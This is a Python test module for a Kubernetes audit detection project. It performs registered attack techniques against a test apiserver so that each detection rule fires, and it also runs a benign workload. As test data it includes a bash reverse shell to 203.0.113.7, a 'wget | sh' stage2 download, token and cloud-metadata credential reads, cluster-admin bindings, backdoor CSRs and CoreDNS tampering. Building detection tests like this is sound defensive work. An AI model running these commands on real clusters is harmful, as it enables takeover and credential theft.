"""Attack techniques and a benign workload, performed against the real apiserver.

Each technique is registered under the id of the detection rule (detections/rules/) it must raise.
Attacks are done by the admin identity, an intruder service account (a real TokenRequest JWT) and
anonymous callers; the benign workload by the developer and the CI service account only, so that
"nothing medium+ for the benign actors" is a precise statement.
"""

from __future__ import annotations

import base64
import subprocess
import tempfile
import time
from pathlib import Path
from typing import Callable

from tests.e2e.cluster import Kube

ADMIN = "kaudit-admin"
DEV = "dev@example.com"
CI = "system:serviceaccount:ci:deployer"
BENIGN_USERS = (DEV, CI)

Technique = Callable[["Attack"], None]
TECHNIQUES: dict[str, Technique] = {}


def technique(rule_id: str) -> Callable[[Technique], Technique]:
    def register(fn: Technique) -> Technique:
        TECHNIQUES[rule_id] = fn
        return fn
    return register


def _pod(name: str, ns: str, spec_extra: dict | None = None, container_extra: dict | None = None) -> dict:
    container = {"name": "c", "image": "registry.k8s.io/pause:3.10", **(container_extra or {})}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": ns},
            "spec": {"containers": [container], **(spec_extra or {})}}


class Attack:
    """One run of every technique in its own namespace (``tag`` keeps runs apart)."""

    def __init__(self, kube: Kube, tag: str) -> None:
        self.kube, self.tag = kube, tag
        self.ns = f"atk-{tag}"
        self.intruder_token = ""

    def admin(self, *args: str, **kw) -> subprocess.CompletedProcess:
        return self.kube.kubectl(ADMIN, *args, **kw)

    def setup(self) -> None:
        self.admin("create", "namespace", self.ns)
        self.admin("create", "serviceaccount", "default", "-n", self.ns)
        self.admin("create", "serviceaccount", "intruder", "-n", self.ns)
        self.kube.apply(ADMIN, _pod("target", self.ns))

    def exec_(self, *command: str) -> None:
        # there is no kubelet: the apiserver authorises and audits the exec, then fails to reach a node
        self.admin("exec", "-n", self.ns, "target", "--", *command, check=False)

    def run(self, only: list[str] | None = None) -> list[str]:
        """Perform every technique (or ``only`` these); returns the rule ids performed."""
        self.setup()
        done = []
        for rule_id, fn in TECHNIQUES.items():
            if only and rule_id not in only:
                continue
            fn(self)
            done.append(rule_id)
        return done


# -- workloads with host access -------------------------------------------------------------------
@technique("privileged-pod-created")
def _privileged(a: Attack) -> None:
    a.kube.apply(ADMIN, _pod("priv", a.ns, container_extra={"securityContext": {"privileged": True}}))


@technique("pod-hostnetwork-created")
def _hostnetwork(a: Attack) -> None:
    a.kube.apply(ADMIN, _pod("hostnet", a.ns, {"hostNetwork": True}))


@technique("pod-hostpid-created")
def _hostpid(a: Attack) -> None:
    a.kube.apply(ADMIN, _pod("hostpid", a.ns, {"hostPID": True}))


@technique("pod-hostipc-created")
def _hostipc(a: Attack) -> None:
    a.kube.apply(ADMIN, _pod("hostipc", a.ns, {"hostIPC": True}))


@technique("pod-sensitive-hostpath-mount")
def _hostpath(a: Attack) -> None:
    a.kube.apply(ADMIN, _pod("hostpath", a.ns,
                             {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]},
                             {"volumeMounts": [{"name": "root", "mountPath": "/host"}]}))


@technique("pod-dangerous-capabilities")
def _caps(a: Attack) -> None:
    a.kube.apply(ADMIN, _pod("caps", a.ns, container_extra={
        "securityContext": {"capabilities": {"add": ["SYS_ADMIN", "NET_ADMIN"]}}}))


@technique("pod-created-in-system-namespace")
def _system_ns_pod(a: Attack) -> None:
    a.kube.apply(ADMIN, _pod(f"backdoor-{a.tag}", "kube-system"))


@technique("workload-template-host-access")
def _daemon_host(a: Attack) -> None:
    a.kube.apply(ADMIN, {
        "apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": {"name": "node-agent", "namespace": a.ns},
        "spec": {"selector": {"matchLabels": {"app": "na"}}, "template": {
            "metadata": {"labels": {"app": "na"}},
            "spec": {"hostPID": True, "hostNetwork": True,
                     "containers": [{"name": "c", "image": "registry.k8s.io/pause:3.10",
                                     "securityContext": {"privileged": True}}]}}}})


@technique("cronjob-created-or-modified")
def _cronjob(a: Attack) -> None:
    a.admin("create", "cronjob", "persist", "-n", a.ns, "--image=busybox", "--schedule=*/5 * * * *",
            "--", "sh", "-c", "id")


# -- exec -----------------------------------------------------------------------------------------
@technique("person-exec-into-application-pod")
def _exec(a: Attack) -> None:
    a.exec_("ls", "/")  # a person into an application pod: the low-severity sibling (it joins their incident)


@technique("pod-exec-or-attach")
def _sa_exec(a: Attack) -> None:
    # a stolen service-account token that may exec into pods of another namespace, used to do so
    if not a.intruder_token:
        _token_request(a)
    name = f"victim-{a.tag}"
    a.kube.apply(ADMIN, _pod(name, "default"))
    a.admin("create", "role", f"exec-{a.tag}", "-n", "default", "--verb=get,create", "--resource=pods,pods/exec")
    a.admin("create", "rolebinding", f"exec-{a.tag}", "-n", "default", f"--role=exec-{a.tag}",
            f"--serviceaccount={a.ns}:intruder")
    a.kube.kubectl(None, "exec", "-n", "default", name, "--", "ls", "/", token=a.intruder_token, check=False)


@technique("exec-reads-token-or-credentials")
def _exec_token(a: Attack) -> None:
    a.exec_("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")


@technique("exec-reverse-shell")
def _exec_revshell(a: Attack) -> None:
    a.exec_("bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")


@technique("exec-cloud-metadata-access")
def _exec_imds(a: Attack) -> None:
    a.exec_("/usr/bin/curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")


@technique("exec-download-over-https")
def _exec_download(a: Attack) -> None:
    a.exec_("sh", "-c", "wget -qO- https://203.0.113.9/stage2.sh | sh")


@technique("offensive-tool-user-agent")
def _tool_ua(a: Attack) -> None:
    status, _ = a.kube.http("GET", f"/api/v1/namespaces/{a.ns}/pods", token=a.kube.token(ADMIN),
                            user_agent="kube-hunter/0.6.8")
    assert status == 200


@technique("ephemeral-container-added")
def _ephemeral(a: Attack) -> None:
    pod = a.admin("get", "pod", "target", "-n", a.ns, "-o", "json").stdout
    import json

    body = json.loads(pod)
    body["spec"]["ephemeralContainers"] = [{"name": f"debugger-{a.tag}", "image": "busybox", "stdin": True,
                                             "tty": True, "targetContainerName": "c"}]
    status, resp = a.kube.http("PUT", f"/api/v1/namespaces/{a.ns}/pods/target/ephemeralcontainers", body,
                               token=a.kube.token(ADMIN), user_agent="kubectl/v1.34.4 (linux/amd64)")
    assert status == 200, resp


# -- credentials ----------------------------------------------------------------------------------
# Not performed: secrets-listed-cluster-wide and role-patched-to-wildcard ignore loopback callers
# (sourceIPs in 127.0.0.0/8), and the apiserver always records the peer address (127.0.0.1 here),
# even behind X-Forwarded-For.


@technique("secret-read-scripting-client")
def _secret_script(a: Attack) -> None:
    a.admin("create", "secret", "generic", "db-creds", "-n", a.ns, "--from-literal=user=app")
    status, _ = a.kube.http("GET", f"/api/v1/namespaces/{a.ns}/secrets/db-creds", token=a.kube.token(ADMIN),
                            user_agent="python-requests/2.32.3")
    assert status == 200


@technique("secret-get-many-names")
def _secret_many(a: Attack) -> None:
    for i in range(6):
        a.admin("create", "secret", "generic", f"loot-{i}", "-n", a.ns, f"--from-literal=k=v{i}")
    for i in range(6):
        a.admin("get", "secret", f"loot-{i}", "-n", a.ns, "-o", "name")


@technique("serviceaccount-token-requested")
def _token_request(a: Attack) -> None:
    a.intruder_token = a.admin("create", "token", "intruder", "-n", a.ns, "--duration=1h").stdout.strip()
    assert a.intruder_token.count(".") == 2


@technique("configmap-with-credentials")
def _cm_creds(a: Attack) -> None:
    a.admin("create", "configmap", "app-config", "-n", a.ns,
            "--from-literal=DATABASE_URL=postgres://app:password=hunter2@db:5432/app")


def _csr(name: str, subject: str, signer: str) -> dict:
    with tempfile.TemporaryDirectory() as tmp:
        key, csr = Path(tmp) / "k.pem", Path(tmp) / "c.pem"
        subprocess.run(["openssl", "req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key),
                        "-subj", subject, "-out", str(csr)], check=True, capture_output=True)
        request = base64.b64encode(csr.read_bytes()).decode()
    return {"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
            "metadata": {"name": name},
            "spec": {"request": request, "signerName": signer, "usages": ["client auth"], "expirationSeconds": 3600}}


@technique("client-certificate-requested-or-approved")
def _csr_client(a: Attack) -> None:
    a.kube.apply(ADMIN, _csr(f"client-{a.tag}", f"/CN=backdoor-{a.tag}", "kubernetes.io/kube-apiserver-client"))


@technique("csr-privileged-subject")
def _csr_masters(a: Attack) -> None:
    # the apiserver refuses this signer for system:masters, but the attempt (with its request) is audited
    import json

    proc = a.admin("create", "-f", "-", stdin=json.dumps(_csr(f"masters-{a.tag}", f"/O=system:masters/CN=root-{a.tag}",
                                                           "kubernetes.io/kube-apiserver-client")), check=False)
    assert "system:masters group is not allowed" in proc.stderr, proc.stderr


@technique("csr-self-approved")
def _csr_self(a: Attack) -> None:
    a.kube.apply(ADMIN, _csr(f"self-{a.tag}", f"/CN=self-{a.tag}", "kubernetes.io/kube-apiserver-client"))
    a.admin("certificate", "approve", f"self-{a.tag}")


# -- RBAC -----------------------------------------------------------------------------------------
def _role(kind: str, name: str, ns: str | None, rules: list[dict]) -> dict:
    meta = {"name": name, **({"namespace": ns} if ns else {})}
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind, "metadata": meta, "rules": rules}


@technique("binding-to-privileged-role")
def _bind_admin(a: Attack) -> None:
    a.admin("create", "clusterrolebinding", f"intruder-admin-{a.tag}", "--clusterrole=cluster-admin",
            f"--serviceaccount={a.ns}:intruder")


@technique("role-with-wildcard")
def _role_wildcard(a: Attack) -> None:
    a.kube.apply(ADMIN, _role("ClusterRole", f"god-{a.tag}", None,
                              [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]))


@technique("role-with-escalation-permissions")
def _role_escalate(a: Attack) -> None:
    a.kube.apply(ADMIN, _role("ClusterRole", f"escalator-{a.tag}", None, [
        {"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"], "verbs": ["escalate", "bind"]},
        {"apiGroups": [""], "resources": ["users", "groups", "serviceaccounts"], "verbs": ["impersonate"]}]))


@technique("role-with-node-proxy")
def _role_node_proxy(a: Attack) -> None:
    a.kube.apply(ADMIN, _role("ClusterRole", f"kubelet-reach-{a.tag}", None,
                              [{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get", "create"]}]))


@technique("role-with-pod-exec")
def _role_exec(a: Attack) -> None:
    a.kube.apply(ADMIN, _role("Role", "shell", a.ns,
                              [{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create", "get"]}]))


@technique("serviceaccount-writes-rbac")
def _sa_rbac(a: Attack) -> None:
    if not a.intruder_token:
        _token_request(a)
        _bind_admin(a)
    # outside its own namespace (a service account managing RBAC of its own namespace is not alerted)
    a.kube.kubectl(None, "create", "clusterrolebinding", f"persist-{a.tag}", "--clusterrole=cluster-admin",
                   f"--serviceaccount={a.ns}:default", token=a.intruder_token)


@technique("system-role-modified")
def _system_role(a: Attack) -> None:
    a.admin("label", "clusterrole", "system:discovery", f"tampered-{a.tag}=yes", "--overwrite")


@technique("impersonation-of-privileged-identity")
def _impersonate(a: Attack) -> None:
    a.admin("get", "pods", "-n", "kube-system", "--as=system:kube-controller-manager")


# -- control plane tampering ---------------------------------------------------------------------
@technique("admission-webhook-changed")
def _webhook(a: Attack) -> None:
    a.kube.apply(ADMIN, {
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": f"inject-{a.tag}"},
        "webhooks": [{"name": f"inject-{a.tag}.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
                      "failurePolicy": "Ignore", "clientConfig": {"url": "https://203.0.113.5/mutate"},
                      "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"],
                                 "resources": ["pods"]}]}]})


@technique("coredns-config-modified")
def _coredns(a: Attack) -> None:
    def corefile(target: str) -> dict:
        return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "coredns", "namespace": "kube-system"},
                "data": {"Corefile": f".:53 {{\n  rewrite name bank.example.com {target}\n  forward . 8.8.8.8\n}}\n"}}

    a.kube.apply(ADMIN, corefile("bank.internal"))  # the cluster's DNS config (made here: no addon manager)
    a.kube.apply(ADMIN, corefile(f"evil-{a.tag}.example.net"))  # ... then tampered with


@technique("events-deleted")
def _events_deleted(a: Attack) -> None:
    a.kube.apply(ADMIN, {"apiVersion": "v1", "kind": "Event", "metadata": {"name": "trace", "namespace": a.ns},
                         "involvedObject": {"kind": "Pod", "name": "target", "namespace": a.ns},
                         "reason": "Exec", "message": "exec into target", "type": "Normal"})
    a.admin("delete", "events", "--all", "-n", a.ns)


@technique("nodeport-service-created")
def _nodeport(a: Attack) -> None:
    a.admin("create", "service", "nodeport", "exposed", "-n", a.ns, "--tcp=8080:8080")


@technique("node-joined-untrusted")
def _node(a: Attack) -> None:
    a.kube.apply(ADMIN, {"apiVersion": "v1", "kind": "Node", "metadata": {"name": f"rogue-{a.tag}"}})


@technique("node-proxy-kubelet-exec")
def _node_proxy_exec(a: Attack) -> None:
    if a.admin("get", "node", f"rogue-{a.tag}", check=False).returncode != 0:
        _node(a)
    a.kube.http("POST", f"/api/v1/nodes/rogue-{a.tag}/proxy/run/{a.ns}/target/c?cmd=id",
                token=a.kube.token(ADMIN), user_agent="curl/8.5.0")


@technique("serviceaccount-created-in-system-namespace")
def _sa_system(a: Attack) -> None:
    a.admin("create", "serviceaccount", f"helper-{a.tag}", "-n", "kube-system")


# -- anonymous ------------------------------------------------------------------------------------
@technique("unauthenticated-api-scan")
def _anon_scan(a: Attack) -> None:
    for path in ("/api/v1/secrets", "/api/v1/pods", "/api/v1/namespaces", "/apis/apps/v1/deployments",
                 "/api/v1/nodes", "/api/v1/configmaps", "/apis/rbac.authorization.k8s.io/v1/clusterroles"):
        status, _ = a.kube.http("GET", path, user_agent="Mozilla/5.0 zgrab/0.x")
        assert status in (401, 403)


@technique("anonymous-request-allowed")
def _anon_allowed(a: Attack) -> None:
    # the misconfiguration first: someone lets anonymous callers read and create pods in a namespace
    a.kube.apply(ADMIN, _role("Role", "anon-pods", a.ns,
                              [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list", "create"]}]))
    a.admin("create", "rolebinding", "anon-pods", "-n", a.ns, "--role=anon-pods", "--user=system:anonymous")
    time.sleep(1)
    status, _ = a.kube.http("GET", f"/api/v1/namespaces/{a.ns}/pods", user_agent="curl/8.5.0")
    assert status == 200


@technique("anonymous-pod-write")
def _anon_pod(a: Attack) -> None:
    if a.kube.http("GET", f"/api/v1/namespaces/{a.ns}/pods")[0] != 200:
        _anon_allowed(a)
    status, resp = a.kube.http("POST", f"/api/v1/namespaces/{a.ns}/pods", _pod("anon", a.ns), user_agent="curl/8.5.0")
    assert status == 201, resp


# -- the benign workload --------------------------------------------------------------------------
def benign(kube: Kube, tag: str, configmap_bytes: int = 0) -> None:
    """What a developer and a CI deployer do on a normal day (nothing here should alert medium+).

    ``configmap_bytes`` adds that much configuration churn (configmap updates) to make the
    apiserver's log backend rotate.
    """
    dev = "dev"
    name = f"web-{tag}"
    deploy = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name, "namespace": dev},
              "spec": {"replicas": 2, "selector": {"matchLabels": {"app": name}},
                       "template": {"metadata": {"labels": {"app": name}},
                                    "spec": {"containers": [{"name": "web", "image": "registry.k8s.io/pause:3.10",
                                                             "resources": {"requests": {"cpu": "10m"}}}]}}}}
    kube.apply(DEV, deploy)
    kube.kubectl(DEV, "scale", "deployment", name, "-n", dev, "--replicas=3")
    kube.kubectl(DEV, "get", "deployments,pods,services", "-n", dev)
    kube.kubectl(DEV, "create", "configmap", f"settings-{tag}", "-n", dev, "--from-literal=log_level=info")
    kube.kubectl(DEV, "patch", "configmap", f"settings-{tag}", "-n", dev, "--type=merge",
                 "-p", '{"data":{"log_level":"debug"}}')
    kube.kubectl(DEV, "expose", "deployment", name, "-n", dev, "--port=80")
    kube.kubectl(DEV, "logs", "-n", dev, "deployment/" + name, check=False)
    # a controller-style service account: the CI deployer rolls out a release in its namespace
    ci_deploy = dict(deploy, metadata={"name": f"api-{tag}", "namespace": "ci"})
    ci_deploy["spec"] = dict(deploy["spec"], selector={"matchLabels": {"app": f"api-{tag}"}},
                             template={"metadata": {"labels": {"app": f"api-{tag}"}},
                                       "spec": deploy["spec"]["template"]["spec"]})
    kube.apply(CI, ci_deploy)
    kube.kubectl(CI, "set", "image", f"deployment/api-{tag}", "-n", "ci", "web=registry.k8s.io/pause:3.9")
    kube.kubectl(CI, "rollout", "status", f"deployment/api-{tag}", "-n", "ci", "--timeout=1s", check=False)
    kube.kubectl(CI, "create", "configmap", f"release-{tag}", "-n", "ci", "--from-literal=version=1.2.3")
    chunk = "x" * 60_000
    sent = 0
    i = 0
    while sent < configmap_bytes:
        kube.kubectl(CI, "create", "configmap", f"bundle-{tag}-{i}", "-n", "ci", f"--from-literal=asset={chunk}")
        sent += len(chunk)
        i += 1
    kube.kubectl(DEV, "delete", "configmap", f"settings-{tag}", "-n", dev)


def rule_ids_by_uuid(rules_dir: Path | None = None) -> dict[str, str]:
    """Rule UUID -> the rule file's name (the id techniques are registered under)."""
    import yaml

    root = rules_dir or Path(__file__).resolve().parents[2] / "detections" / "rules"
    out: dict[str, str] = {}
    for path in root.rglob("*.yml"):
        for doc in yaml.safe_load_all(path.read_text(encoding="utf-8")):
            if isinstance(doc, dict) and doc.get("id"):
                out[str(doc["id"])] = path.stem
    return out
